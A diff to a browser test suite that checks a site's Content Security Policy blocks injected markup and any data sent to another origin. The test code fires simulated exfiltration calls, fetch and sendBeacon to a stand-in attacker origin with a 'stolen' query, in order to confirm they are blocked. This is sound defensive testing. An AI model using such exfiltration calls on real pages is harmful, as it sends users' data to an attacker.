@@ -18,20 +18,18 @@ const INJECTIONS: Record<string, string> = {
 };
 
 for (const path of ['/', '/admin/login']) {
-  test(`${path} blocks whatever an injection would try`, async ({ page, logged }) => {
+  test(`${path} blocks what an injection would try, and sends nothing to another origin`, async ({
+    page,
+    logged,
+  }) => {
     const reached = await watchRequestsTo(page, ATTACKER);
     await page.goto(path);
     for (const [markup, directive] of Object.entries(INJECTIONS)) {
       expect(await violatedBy(page, markup), markup).toBe(directive);
     }
     expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
-    expect(reached).toEqual([]);
     await logged.expect([/ violates the following Content Security Policy directive/]);
-  });
 
-  test(`${path} sends nothing to another origin`, async ({ page, logged }) => {
-    const reached = await watchRequestsTo(page, ATTACKER);
-    await page.goto(path);
     await page.evaluate(async (origin) => {
       await fetch(`${origin}/?stolen`).catch(() => undefined);
       navigator.sendBeacon(`${origin}/?stolen`);
@@ -39,11 +37,11 @@ for (const path of ['/', '/admin/login']) {
     }, ATTACKER);
     const blocked = () => logged.lines.filter((line) => /^Connecting to '.*' violates/.test(line));
     await expect.poll(blocked).toHaveLength(3);
-    expect(reached).toEqual([]);
     await logged.expect([
       /^Connecting to .* violates the following Content Security Policy directive/,
       /^Fetch API cannot load /,
     ]);
+    expect(reached).toEqual([]);
   });
 }
 
